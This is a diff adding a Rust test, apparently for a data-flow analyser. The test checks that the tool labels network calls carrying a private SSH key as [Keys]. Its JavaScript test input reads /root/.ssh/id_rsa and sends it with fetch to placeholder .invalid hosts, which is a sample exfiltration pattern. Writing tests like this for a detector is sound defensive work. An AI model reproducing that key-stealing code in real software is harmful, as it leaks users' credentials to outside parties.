@@ -190,6 +190,25 @@ fn python_values_flow_through_functions_loops_and_objects() {
 }
 
 #[test]
+fn what_an_object_holds_under_one_name_is_not_what_it_holds_under_another() {
+    let text = "const all = { key: require('fs').readFileSync('/root/.ssh/id_rsa'), names: process.argv.slice(2) };\n\
+                function get({ names }) { fetch(`https://a.invalid/${names}`); }\nget(all);\n\
+                fetch('https://b.invalid', { body: all.names });\n\
+                fetch('https://c.invalid', { body: all.key });\nall.names = all.key;\n\
+                fetch('https://d.invalid', { body: all.names });\n";
+    tells(
+        Language::JavaScript,
+        text,
+        &[
+            "contact https://a.invalid/… with ",
+            "contact https://b.invalid with ",
+            "contact https://c.invalid with  [Keys]",
+            "contact https://d.invalid with  [Keys]",
+        ],
+    );
+}
+
+#[test]
 fn texts_are_put_together_as_the_script_would() {
     tells(
         Language::Python,
